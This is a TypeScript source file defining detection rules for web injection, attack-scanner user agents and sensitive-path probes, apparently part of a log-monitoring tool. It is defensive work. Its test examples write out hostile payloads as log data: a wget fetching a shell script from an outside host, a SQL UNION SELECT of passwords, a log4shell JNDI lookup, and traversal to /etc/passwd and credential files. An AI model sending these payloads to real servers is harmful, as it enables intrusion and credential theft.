import { EventKinds } from '../../events.js';
import { findHeaderInjection, findInjection, type InjectionType } from '../patterns/injection.js';
import { createScannerAgentMatcher, isResearchScanner } from '../patterns/scanners.js';
import { createSensitivePathMatcher } from '../patterns/sensitive-paths.js';
import type { Finding, Rule, Severity } from '../types.js';
import { DistinctCounter } from '../distinct.js';
import { SlidingCounter } from '../windows.js';
import {
  HOUR,
  MINUTE,
  ThresholdCounter,
  during,
  evidenceOf,
  ipsOf,
  onHosts,
  plural,
  sources,
} from './kit.js';

const request = (
  ip: string,
  target: string,
  status: number,
  ua = 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
): string =>
  `${ip} - - [24/Nov/2026:12:00:00 +0000] "GET ${target} HTTP/1.1" ${String(status)} 120 "-" "${ua}"`;

/** Payloads that turn a request into code: SQL, script, shell, JNDI lookups, path traversal. */
export const webInjection: Rule = {
  meta: {
    id: 'web-injection',
    category: 'web-attack',
    severity: 'medium',
    description:
      'Injection payloads in the path or query (SQL injection, XSS, path traversal, command injection, template injection), URL-decoded before matching, and log4shell / Shellshock in the user agent or referer. One that reached the application (any answer but 4xx) alerts at once; botnet probes the server turned away (404, 400, 403) alert only when an address sends several.',
    mitre: 'T1190 Exploit Public-Facing Application',
    thresholds: { attempts: 3, windowMs: HOUR },
    thresholdDocs: {
      attempts: 'turned-away injection attempts from one address…',
      windowMs: '…within this time',
    },
    action:
      'Block {ip}; check the responses to these requests (a 200 to an injection deserves a look at the application log) and that the application is patched.',
    examples: {
      valid: [
        { name: 'a search for c++ jobs', lines: [request('84.10.2.3', '/jobs?q=c%2B%2B+developer', 200)] },
        { name: 'an apostrophe in a name', lines: [request('84.10.2.3', '/jobs?q=o%27brien', 200)] },
        {
          name: 'a lone botnet probe the server turned away',
          lines: [request('198.51.100.77', '/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/x.sh', 404)],
        },
      ],
      invalid: [
        {
          name: 'union select in the query',
          lines: [
            request(
              '45.155.205.7',
              '/jobs?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--',
              200,
            ),
          ],
          alerts: [{ rule: 'web-injection', severity: 'medium', count: 1 }],
        },
        {
          name: 'log4shell in the user agent is high',
          lines: [request('45.155.205.7', '/', 200, '${jndi:ldap://198.51.100.1:1389/a}')],
          alerts: [{ rule: 'web-injection', severity: 'high' }],
        },
        {
          name: 'probes turned away, but three of them',
          lines: [
            {
              line: request('45.155.205.6', '/index.php?page=../../../etc/passwd&n={i}', 404),
              times: 3,
              every: '1m',
            },
          ],
          alerts: [{ rule: 'web-injection', count: 3 }],
        },
      ],
    },
  },
  create(ctx) {
    const turnedAway = new SlidingCounter(ctx.thresholds.windowMs ?? 0);
    return {
      on: {
        [EventKinds.httpRequest]: (event) => {
          const ip = event.ip;
          if (ip === undefined) return;
          const match =
            (event.path === undefined ? undefined : findInjection(event.path)) ??
            (event.ua === undefined ? undefined : findHeaderInjection(event.ua)) ??
            (event.referer === undefined ? undefined : findHeaderInjection(event.referer));
          if (match === undefined) return;
          const status = event.status ?? 0;
          let opening: Pick<Finding, 'count' | 'since'> = {};
          // The internet's botnets spray these at every server; one the server turned away is noise.
          if (status >= 400 && status < 500 && !ctx.isActive(ip, event.ts)) {
            const attempts = turnedAway.add(ip, event.ts);
            if (attempts < (ctx.thresholds.attempts ?? 0)) return;
            opening = { count: attempts, since: turnedAway.oldest(ip) };
          }
          ctx.report({
            key: ip,
            ts: event.ts,
            ...opening,
            severity: INJECTION_SEVERITY[match.type],
            ...evidenceOf(event),
            ips: [ip],
            facts: { [match.type]: 1, last: match.type },
          });
        },
      },
    };
  },
  describe: (incident) => {
    const kinds = Object.keys(incident.facts).filter((k) => k in INJECTION_SEVERITY);
    return `${plural(incident.count, 'injection attempt')} (${kinds.join(', ')}) from ${sources(incident)}${onHosts(incident)} ${during(incident)}`;
  },
};

const INJECTION_SEVERITY: Record<InjectionType, Severity> = {
  sqli: 'medium',
  xss: 'medium',
  traversal: 'medium',
  ssti: 'medium',
  cmdi: 'high',
  log4shell: 'high',
  shellshock: 'high',
};

/** Attack tools that say who they are in the user agent. */
export const webScannerAgent: Rule = {
  meta: {
    id: 'web-scanner-ua',
    category: 'scan',
    severity: 'medium',
    description:
      'Requests whose user agent names an attack or vulnerability-scanning tool (sqlmap, Nikto, Nmap, masscan, zgrab, Acunetix, Netsparker, w3af, WPScan, Nuclei, …). Internet research scanners (Censys, Shodan) are not reported.',
    mitre: 'T1595.002 Active Scanning: Vulnerability Scanning',
    thresholds: { requests: 5, windowMs: 10 * MINUTE },
    thresholdDocs: {
      requests: 'requests with a scanner user agent from one address',
      windowMs: 'within this time (a lone zgrab or Nmap probe is background noise)',
    },
    action: 'Block {ip}; if the scan was yours, add its address to `detection.allowlist.ips`.',
    examples: {
      valid: [
        { name: 'a browser', lines: [request('84.10.2.3', '/jobs', 200)] },
        {
          name: 'a lone zgrab probe, as every server gets daily',
          lines: [
            request('198.51.100.78', '/', 200, 'Mozilla/5.0 zgrab/0.x'),
            request('198.51.100.78', '/favicon.ico', 404, 'Mozilla/5.0 zgrab/0.x'),
          ],
        },
      ],
      invalid: [
        {
          name: 'sqlmap',
          lines: [
            {
              line: request('45.155.205.8', '/jobs?id={i}', 200, 'sqlmap/1.7.2#stable (https://sqlmap.org)'),
              times: 5,
              every: '2s',
            },
          ],
          alerts: [{ rule: 'web-scanner-ua', count: 5 }],
        },
      ],
    },
  },
  create(ctx) {
    const scanner = createScannerAgentMatcher(ctx.options.scannerAgents);
    const counter = new ThresholdCounter(ctx, ctx.thresholds.windowMs ?? 0, ctx.thresholds.requests ?? 0);
    return {
      on: {
        [EventKinds.httpRequest]: (event) => {
          const ip = event.ip;
          if (ip === undefined || event.ua === undefined) return;
          const tool = scanner(event.ua);
          if (tool === undefined || isResearchScanner(tool)) return;
          counter.add(ip, event, true, () => ({ ...evidenceOf(event), ips: [ip], facts: { tool } }));
        },
      },
    };
  },
  describe: (incident) =>
    `${String(incident.facts.tool)} scan: ${plural(incident.count, 'request')} from ${sources(incident)}${onHosts(incident)} ${during(incident)}`,
};

/**
 * Requests for files that must never be served (`/.env`, `/.git/config`) or for admin panels and
 * exploit paths. Every server gets a few of these a day from the internet: a lone probe answered
 * 404 is noise and stays silent; one that got a 2xx (a secret was served) alerts at once, and an
 * address probing many of them alerts as a scan.
 */
export const webSensitivePath: Rule = {
  meta: {
    id: 'web-sensitive-path',
    category: 'web-attack',
    severity: 'low',
    description:
      'Requests for secrets, admin panels or known exploit paths (a maintained list): high at once when such a request succeeded (2xx), otherwise only when one address probes many of them.',
    mitre: 'T1595.003 Active Scanning: Wordlist Scanning',
    thresholds: { paths: 5, windowMs: HOUR },
    thresholdDocs: { paths: 'distinct sensitive paths probed by one address', windowMs: 'within this time' },
    action:
      'If a secret was served (2xx), remove the file from the web root and rotate every credential in it now; block {ip}.',
    suppressedBy: ['web-404-scan', 'web-scanner-ua'],
    examples: {
      valid: [
        {
          name: 'the daily background probe, answered 404',
          lines: [request('45.155.205.9', '/.env', 404), request('45.155.205.9', '/wp-login.php', 404)],
        },
      ],
      invalid: [
        {
          name: 'a .env file served',
          lines: [request('45.155.205.10', '/.env', 200)],
          alerts: [{ rule: 'web-sensitive-path', severity: 'high', count: 1 }],
        },
        {
          name: 'one address probing many',
          lines: [
            request('45.155.205.11', '/.env', 404),
            request('45.155.205.11', '/.git/config', 404),
            request('45.155.205.11', '/phpmyadmin/', 404),
            request('45.155.205.11', '/server-status', 403),
            request('45.155.205.11', '/wp-config.php.bak', 404),
            request('45.155.205.11', '/.aws/credentials', 404),
          ],
          alerts: [{ rule: 'web-sensitive-path', severity: 'low', count: 6 }],
        },
      ],
    },
  },
  create(ctx) {
    const match = createSensitivePathMatcher(
      ctx.options.sensitivePaths.extra,
      ctx.options.sensitivePaths.allow,
    );
    const minPaths = ctx.thresholds.paths ?? 0;
    const probed = new DistinctCounter(ctx.thresholds.windowMs ?? 0);
    return {
      on: {
        [EventKinds.httpRequest]: (event) => {
          const ip = event.ip;
          const path = event.path;
          if (ip === undefined || path === undefined) return;
          const hit = match(path);
          if (hit === undefined) return;
          const status = event.status ?? 0;
          const served = status >= 200 && status < 300;
          const distinct = probed.add(ip, hit.path, event.ts);
          if (!served && (ctx.extend(ip, event) || distinct < minPaths || ctx.suppressed(ip, event.ts)))
            return;
          const active = ctx.isActive(ip, event.ts);
          ctx.report({
            key: ip,
            ts: event.ts,
            count: active || served ? 1 : distinct,
            since: probed.oldest(ip),
            ...(served && { severity: 'high' as const }),
            ...evidenceOf(event),
            ips: ipsOf(event),
            facts: served ? { served: path.slice(0, 100) } : {},
          });
        },
      },
    };
  },
  describe: (incident) =>
    incident.facts.served === undefined
      ? `${plural(incident.count, 'request')} for sensitive paths from ${sources(incident)}${onHosts(incident)} ${during(incident)}`
      : `${String(incident.facts.served)} was served to ${sources(incident)}${onHosts(incident)} (${plural(incident.count, 'sensitive request')})`,
};
